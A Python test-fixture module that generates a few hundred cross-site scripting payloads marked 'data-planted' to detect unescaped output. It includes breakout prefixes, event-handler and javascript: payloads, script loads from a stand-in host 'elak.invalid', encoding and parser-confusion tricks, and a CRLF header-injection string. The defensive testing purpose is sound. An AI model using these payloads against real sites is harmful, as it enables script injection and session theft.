"""Texts that would be more than text on a page that forgot to escape them. Each carries ``data-planted``: an element
with it on a page is a hole, whether or not anything ran."""

import itertools

# Ways out of where a text may stand: between tags, in an attribute of either kind, in a text area, a title, a script.
OUT = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "</script>",
    "</style>",
    "--></p>",
    "</noscript>",
    "]]>",
]
ELSEWHERE = "//elak.invalid/x"
MARKUP = [
    "<script data-planted>alert(1)</script>",
    "<img data-planted src=x onerror=alert(1)>",
    f"<img data-planted src={ELSEWHERE}>",
    "<svg data-planted onload=alert(1)>",
    f"<svg data-planted><image href={ELSEWHERE} /></svg>",
    "<svg data-planted><script>alert(1)</script></svg>",
    "<math data-planted><mi xlink:href=javascript:alert(1)>x</math>",
    f"<script data-planted src={ELSEWHERE}></script>",
    "<iframe data-planted srcdoc='<script>alert(1)</script>'></iframe>",
    f"<iframe data-planted src={ELSEWHERE}></iframe>",
    f"<object data-planted data={ELSEWHERE}></object>",
    f"<embed data-planted src={ELSEWHERE}>",
    f"<link data-planted rel=stylesheet href={ELSEWHERE}>",
    f"<style data-planted>@import '{ELSEWHERE}';</style>",
    f'<p data-planted style="background:url({ELSEWHERE})">x</p>',
    f"<base data-planted href={ELSEWHERE}>",
    f"<meta data-planted http-equiv=refresh content=0;url={ELSEWHERE}>",
    f"<form data-planted action={ELSEWHERE}><input name=x autofocus onfocus=alert(1)></form>",
    "<a data-planted href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<details data-planted open ontoggle=alert(1)>x</details>",
    "<video data-planted><source onerror=alert(1)></video>",
    "<body data-planted onload=alert(1)>",
    f"<div data-planted hx-get={ELSEWHERE} hx-trigger=load>x</div>",
    "<div data-planted hx-on:htmx:load=alert(1)>x</div>",
    "<div data-planted data-hides-after=0 data-autosave contenteditable>x</div>",
    "<x-y data-planted style=animation-name:x onanimationstart=alert(1)>x</x-y>",
]
# Not markup as they stand: an attribute let loose, or what somebody might decode once too often.
LOOSE = [
    '" data-planted autofocus onfocus=alert(1) x="',
    "' data-planted autofocus onfocus=alert(1) x='",
    "x data-planted autofocus onfocus=alert(1)",
    '" data-planted style="background:url(//elak.invalid/x)" x="',
    "&lt;img data-planted src=x onerror=alert(1)&gt;",
    "&amp;lt;img data-planted src=x onerror=alert(1)&amp;gt;",
    "&#60;img data-planted src=x onerror=alert(1)&#62;",
    "\\u003cimg data-planted src=x onerror=alert(1)\\u003e",
    "%3Cimg data-planted src=x onerror=alert(1)%3E",
    "\uff1cimg data-planted src=x onerror=alert(1)\uff1e",
    "+ADw-img data-planted src=x onerror=alert(1)+AD4-",
    "javascript:alert(1)//data-planted",
    "data:text/html,<script data-planted>alert(1)</script>",
    '{"x": "</script><script data-planted>alert(1)</script>"}',
    "{{ request }}{% debug %}<b data-planted>x</b>",
    "{% endautoescape %}{% autoescape off %}<img data-planted src=x onerror=alert(1)>",
    "`${alert(1)}`<b data-planted>x</b>",
    "<scr<script>ipt data-planted>alert(1)</script>",
    "<<script data-planted>alert(1)//<</script>",
    "<img\tdata-planted\nsrc=x\ronerror=alert(1)>",
    "<IMG DATA-PLANTED SRC=x ONERROR=alert(1)>",
    "<img/data-planted/src=x/onerror=alert(1)>",
    "\u202e<img data-planted src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img data-planted src=x onerror=alert(1)>'>",
    "<template><b data-planted>x</b></template><b data-planted>x</b>",
    "<svg><style><img data-planted src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img data-planted src=x onerror=alert(1)></style></table></math>",
    "<!--><img data-planted src=x onerror=alert(1)>-->",
    "<![CDATA[<img data-planted src=x onerror=alert(1)>]]>",
    "\r\nSet-Cookie: planted=1\r\n\r\n<img data-planted src=x onerror=alert(1)>",
]


def texts():
    """Some three hundred, the most different ones first."""
    crossed = [out + markup for out, markup in itertools.product(OUT, MARKUP)]
    step = 7  # so that a share of the first ones has every way out and most elements; the length is no multiple of it
    return [*LOOSE, *(crossed[place * step % len(crossed)] for place in range(len(crossed)))]


def some(number):
    """That many, as different as they can be."""
    every = texts()
    return [every[place * len(every) // number] for place in range(min(number, len(every)))]


def together(pieces, room, start=0):
    """As many of the pieces as fit, from ``start`` and around; a part of one when none does."""
    turned = [*pieces[start % len(pieces) :], *pieces[: start % len(pieces)]]
    if room is None:
        return " ".join(turned)
    kept = ""
    for piece in turned:
        if len(kept) + len(piece) + 1 <= room:
            kept += (" " if kept else "") + piece
    return kept or turned[0][:room]
